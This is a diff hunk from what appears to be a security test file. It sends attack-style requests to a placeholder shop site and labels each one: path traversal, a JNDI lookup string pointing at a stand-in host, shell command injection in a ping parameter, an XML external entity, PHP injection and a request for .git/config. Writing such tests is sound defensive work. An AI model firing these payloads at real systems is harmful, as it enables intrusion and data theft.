@@ -21,7 +21,7 @@ SITE = "https://shop.example"
         (get(f"{SITE}/download?file=%252e%252e%252f%252e%252e%252fx"), "a path out of the tree"),
         (get(SITE, user_agent="${jndi:ldap://x.example/a}"), "a look-up expression"),
         (get(f"{SITE}/ping?host=127.0.0.1;cat%20/tmp/x"), "a shell command"),
-        (post(SITE, '<!DOCTYPE a [ <!ENTITY x SYSTEM "file:///x">]><a/>', content_type="application/xml"), "an XML entity"),
+        (post(SITE, "<!DOCTYPE a [ <!ENTITY x SYSTEM \"x\">]><a/>", content_type="application/xml"), "an XML entity"),
         (post(SITE, "t=%3C%3Fphp+echo+1", content_type="application/x-www-form-urlencoded"), "PHP code"),
         (get(f"{SITE}/.git/config"), "a hidden file of the site"),
     ],
